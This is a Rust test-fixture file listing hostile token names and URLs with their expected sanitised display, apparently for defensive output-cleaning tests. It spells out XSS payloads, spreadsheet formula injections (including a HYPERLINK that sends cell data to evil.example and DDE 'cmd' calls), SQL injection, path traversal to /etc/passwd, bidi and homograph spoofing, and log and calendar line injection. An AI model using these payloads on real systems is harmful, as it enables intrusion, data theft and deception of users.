//! What strangers may call a token, as a provider's JSON has it, and what is to become of it.

/// One name.
pub struct Word {
    /// What it tries.
    pub what: &'static str,
    /// The text in the answer, with its quotes: bytes, since it need not be Unicode.
    pub json: Vec<u8>,
    /// What people and programs see, on every surface.
    pub shown: String,
    /// How it is counted.
    pub adjusted: Option<&'static str>,
}

const CLEANED: Option<&str> = Some("cleaned_value");

fn word(what: &'static str, text: &str, shown: &str, adjusted: Option<&'static str>) -> Word {
    let json = serde_json::to_vec(text).unwrap();
    Word { what, json, shown: shown.to_owned(), adjusted }
}

fn same(what: &'static str, text: &str) -> Word {
    word(what, text, text, None)
}

fn raw(what: &'static str, json: &[u8], shown: &str) -> Word {
    Word { what, json: json.to_vec(), shown: shown.to_owned(), adjusted: CLEANED }
}

/// The table.
pub fn words() -> Vec<Word> {
    vec![
        same("quotes", r#"it's "quoted" \ and `ticked`"#),
        same("the end of a label", r#"x"} 1"#),
        word("another sample", "x\"} 1\ntoken_evil{a=\"b", "x\"} 1token_evil{a=\"b", CLEANED),
        same("escapes of the exposition", r#"\n \\ \" \x"#),
        word("line ends", "one\r\ntwo\nthree\u{85}four", "onetwothreefour", CLEANED),
        word("line ends of Unicode", "one\u{2028}two\u{2029}three", "onetwothree", CLEANED),
        word("NUL", "nul\u{0}nul", "nulnul", CLEANED),
        word("commands of a terminal", "\u{1b}[2J\u{1b}]0;title\u{7}\u{9b}31mred", "[2J]0;title31mred", CLEANED),
        word("directions", "invoice\u{202e}fdp.exe\u{2066}\u{200f}", "invoicefdp.exe", CLEANED),
        word(
            "a flood of marks",
            &format!("Z{}algo", "\u{336}\u{35c}".repeat(60)),
            "Z\u{336}\u{35c}\u{336}\u{35c}algo",
            CLEANED,
        ),
        word("a megabyte", &"m".repeat(1_000_000), &format!("{}…", "m".repeat(199)), Some("cut_value")),
        raw(
            "bytes that are no UTF-8",
            b"\"bytes \xff\xfe\xed\xa0\x80 end\"",
            "bytes \u{fffd}\u{fffd}\u{fffd}\u{fffd}\u{fffd} end",
        ),
        raw("half a character", br#""half \ud800 end""#, "half \u{fffd} end"),
        raw("the other half", br#""half \udfff\ud83d\ude00""#, "half \u{fffd}😀"),
        same("a template of Go", r#"{{ $labels.token_owner }} {{ .ExternalURL }} {{ template "x" . }} {{"#),
        same("a template of Prometheus that fails", "{{ query \"up\" | first | value }}{{ end }}"),
        same("HTML", "<script>alert(1)</script><img src=x onerror=alert(2)>"),
        same("an attribute", "\" onmouseover=alert(1) x='\"><svg/onload=alert(3)>"),
        same("the end of a table", "</td></tr></table></body></html><!--"),
        same("an entity", "&lt;b&gt; &amp; &#x3c;"),
        same("an address that is run", "javascript:alert(document.domain)"),
        same("a formula", "=HYPERLINK(\"https://evil.example/?\"&A1,\"renew\")"),
        same("a formula with plus", "+1+cmd|' /C calc'!A0"),
        same("a formula with minus", "-2+3+cmd|' /C calc'!A0"),
        same("a formula with at", "@SUM(1+1)*cmd|' /C calc'!A0"),
        same("a wide formula", "＝1+1"),
        same("a formula behind a semicolon", "a; =1+1;@x"),
        word("a formula behind a tab", "\t=1+1\r", "=1+1", CLEANED),
        same("another cell", "a\",\"b,c"),
        word(
            "an event",
            "x\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:evil",
            "xEND:VEVENTBEGIN:VEVENTSUMMARY:evil",
            CLEANED,
        ),
        same("signs of a calendar", r"a,b;c:d\n\,\;"),
        same("a line that is folded", &"ä, ".repeat(66)[..195]),
        word(
            "another line of the log",
            "x\nts=2026-01-01T00:00:00Z level=error msg=evil",
            "xts=2026-01-01T00:00:00Z level=error msg=evil",
            CLEANED,
        ),
        same("the end of a message", r#"" level=error msg="evil" {"level":"error"}"#),
        same("a channel of a chat", "<!channel> @here <https://evil.example|renew>"),
        same("letters of other scripts", "Зоя 日本語 عربي עברית Việt 🔑👩‍💻"),
        same("a query", "'; DROP TABLE tokens;-- ' OR 1=1"),
        same("a path", "../../../etc/passwd%2e%2e%2f?a=b#c"),
    ]
}

/// Addresses of pages, and what is left of them.
pub const LINKS: [(&str, Option<&str>); 10] = [
    ("https://ok.example/a?b=c&d=e", Some("https://ok.example/a?b=c&d=e")),
    ("https://ok.example/\"><script>alert(1)</script>", Some("https://ok.example/\"><script>alert(1)</script>")),
    ("https://\u{430}pple.example/", Some("https://xn--pple-43d.example/")),
    ("https://ok.example\u{202e}/moc.live", Some("https://ok.example/moc.live")),
    ("https://login.example@evil.example/", None),
    ("javascript:alert(1)", None),
    ("JaVaScRiPt://x/%0aalert(1)", None),
    ("data:text/html,<script>alert(1)</script>", None),
    ("https:evil.example", None),
    ("http://[", None),
];
